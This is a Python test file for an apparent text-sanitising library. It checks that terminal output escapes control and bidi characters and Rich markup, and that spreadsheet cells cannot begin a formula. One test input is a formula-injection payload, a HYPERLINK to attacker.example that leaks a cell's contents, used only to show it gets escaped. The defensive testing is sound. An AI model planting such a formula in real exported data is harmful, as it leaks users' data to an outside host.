"""bastion.textsafe: user text shown as written on a terminal, and never a formula in a spreadsheet."""

from __future__ import annotations

import io

from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console

from bastion.textsafe import formula_like, spreadsheet_cell, terminal, visible


def _printed(markup: str) -> str:
    buf = io.StringIO()
    Console(file=buf, width=500, color_system=None, highlight=False, emoji=False).print(markup)
    return buf.getvalue().rstrip("\n")


def test_visible_escapes_control_characters_by_hand() -> None:
    assert visible("Baltic plant") == "Baltic plant"
    assert visible("a\x1b[31mb\rc\x07\n\t") == "a\\x1b[31mb\\x0dc\\x07\\x0a\\x09"
    assert visible("x\x9b31m\x7f") == "x\\x9b31m\\x7f"
    assert visible("abc\u202edef\u2066") == "abc\\u202edef\\u2066"
    assert visible("\ud800") == "\\ud800"  # a lone surrogate cannot even be encoded
    assert visible("Zürich 東京 ✓ a\\b") == "Zürich 東京 ✓ a\\b"


def test_terminal_prints_markup_literally() -> None:
    for text in ("Baltic plant [/draft]", "Baltic plant [draft v2]", "[bold]x[/bold]", "[/]", "x\\", "x\\\\",
                 "[link=http://e.invalid]y[/link]", ":warning:", "a [b] \\[c]"):
        assert _printed(terminal(text)) == text


@settings(max_examples=500)
@given(st.text(alphabet=st.sampled_from("ab [/]\\=:#@\x1b\r\n\u202e")) | st.text())
def test_terminal_output_is_the_text_with_controls_escaped(text: str) -> None:
    out = _printed(terminal(text))
    assert out == visible(text)
    assert _printed(f"[bold]{terminal(text)}[/bold]") == visible(text)  # whatever follows it
    assert _printed(f"{terminal(text)} [bold]z[/bold]") == visible(text) + " z"
    assert not any(ord(ch) < 0x20 or 0x7F <= ord(ch) < 0xA0 for ch in out)


def test_spreadsheet_cells_by_hand() -> None:
    assert spreadsheet_cell("-2-1") == "'-2-1"
    assert spreadsheet_cell('=HYPERLINK("http://attacker.example/?leak="&A1,"x")') == \
        '\'=HYPERLINK("http://attacker.example/?leak="&A1,"x")'
    for text in ("+1+1", "@SUM(A1)", "\t=1", "\r=1", "=1+1"):
        assert spreadsheet_cell(text) == "'" + text and formula_like(text)
    for value in (-3, -2.5, 0, 1e9, True, None, "atm-1", "2026-01", "", "a=b", " =1"):
        assert spreadsheet_cell(value) == value  # numbers stay numbers; plain text unchanged
    assert not formula_like("atm-1")


@given(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False)))
def test_a_spreadsheet_cell_never_starts_a_formula(value: object) -> None:
    out = spreadsheet_cell(value)
    if isinstance(value, str):
        assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert out in (value, "'" + value)
    else:
        assert out == value
